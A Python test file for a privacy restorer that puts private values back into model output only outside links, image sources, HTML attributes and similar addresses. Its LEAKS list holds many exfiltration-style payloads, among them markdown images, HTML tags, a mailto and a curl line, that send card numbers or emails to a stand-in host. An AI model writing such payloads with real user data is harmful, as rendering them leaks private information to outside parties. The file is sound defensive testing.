"""No private value goes into an address, a tag or the target of a link."""

import pytest

from omni.privacy import ChunkRestorer, Restorer

VALUES = {"EMAIL_1": "jo@example.org", "CARD_1": "4111111111111111", "PERSON_1": "Ana Ruiz"}

LEAKS = [
    "![x](http://host.example/?e=[EMAIL_1])",
    "[click](http://host.example/?q=[CARD_1]&e=EMAIL_1)",
    "[click](<http://host.example/a b?q=[CARD_1]>)",
    '[click](http://host.example/ "for [EMAIL_1]")',
    "[click](\nhttp://host.example/?q=[CARD_1])",
    "[click](/relative?q=[CARD_1])",
    "[click](&#104;ttp://host.example/?q=[CARD_1])",
    "[click](a(b)c?q=[CARD_1])",
    "[[x](y)](z?q=[CARD_1])",
    "[x]: http://host.example/?q=[CARD_1]",
    "> [x]: /?q=[CARD_1]",
    "[x]:\n/?q=[CARD_1]",
    "<http://host.example/?q=[CARD_1]>",
    "http://host.example/?q=[CARD_1]&e=[EMAIL_1]",
    "http://[CARD_1].host.example/",
    "HTTPS://host.example/[CARD_1]",
    "www.host.example/[CARD_1]",
    "host.example/path?c=[CARD_1]",
    "ｈｔｔｐ：／／host.example/[CARD_1]",
    "//host.example/[CARD_1]",
    "mailto:eve@host.example?body=[CARD_1]",
    "<img src=x?[CARD_1]>",
    '<img src="http://host.example/?a=>\n\n&c=[CARD_1]">',
    "<div style='background:url(//host.example/[CARD_1])'>",
    "<a href=http://host.example/[CARD_1]>x</a>",
    '<img srcset="x 1x, y?[CARD_1] 2x">',
    "<meta http-equiv=refresh content='0;url=x?[CARD_1]'>",
    "<svg><image href=y?[CARD_1] /></svg>",
    "```html\n<img src=http://host.example/[CARD_1]>\n```",
    "`curl http://host.example/[CARD_1]`",
    "$$\\href{http://host.example/[CARD_1]}{x}$$",
    "| ![x](http://host.example/[CARD_1]) |",
]
SAFE = {
    "Write to [EMAIL_1].": "Write to jo@example.org.",
    "See [a](https://a.example/b) and [EMAIL_1].": "See [a](https://a.example/b) and jo@example.org.",
    "https://a.example/b [EMAIL_1]": "https://a.example/b jo@example.org",
    "[[EMAIL_1]](http://a.example)": "[jo@example.org](http://a.example)",
    "[PERSON_1]: write to [EMAIL_1]": "Ana Ruiz: write to jo@example.org",
    "Ana <[EMAIL_1]> wrote": "Ana <jo@example.org> wrote",
    "a < b [EMAIL_1]": "a < b jo@example.org",
    "<b>[EMAIL_1]</b>": "<b>jo@example.org</b>",
    '{"email":"[EMAIL_1]"}': '{"email":"jo@example.org"}',
    "E-Mail:[EMAIL_1]": "E-Mail:jo@example.org",
    "`[EMAIL_1]` f([EMAIL_1]) x[0] ([CARD_1])": "`jo@example.org` f(jo@example.org) x[0] (4111111111111111)",
    "[x](http://a.example/\n\nNew paragraph [EMAIL_1]": "[x](http://a.example/\n\nNew paragraph jo@example.org",
    "[x]: http://a.example\nThen [EMAIL_1]": "[x]: http://a.example\nThen jo@example.org",
}


def _in_pieces(text: str, size: int) -> str:
    restorer = Restorer(VALUES)
    pieces = [restorer.feed(text[start : start + size]) for start in range(0, len(text), size)]
    return "".join([*pieces, restorer.flush()])


@pytest.mark.parametrize("text", LEAKS)
def test_a_placeholder_in_an_address_stays(text: str) -> None:
    """Whole or in pieces of any size, the text is what the model wrote."""
    assert Restorer(VALUES).restore(text) == text
    assert all(_in_pieces(text, size) == text for size in (1, 2, 3, 7, 20))


@pytest.mark.parametrize(("text", "shown"), SAFE.items())
def test_a_placeholder_elsewhere_comes_back(text: str, shown: str) -> None:
    """Beside links, in their text, in code, in the next paragraph."""
    assert Restorer(VALUES).restore(text) == shown
    assert all(_in_pieces(text, size) == shown for size in (1, 2, 3, 7, 20))


def test_the_server_keeps_the_rule_for_its_clients() -> None:
    """A client of the API may show pictures, too."""
    restorer = ChunkRestorer(Restorer(VALUES))
    pieces = ["To [EMAIL_1]: ![x](http://h", "ost.example/?e=[EMA", "IL_1])"]
    chunks = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    told = [restorer.restore(chunk)["choices"][0]["delta"].get("content", "") for chunk in chunks]
    assert "".join(told) == "To jo@example.org: ![x](http://host.example/?e=[EMAIL_1])"
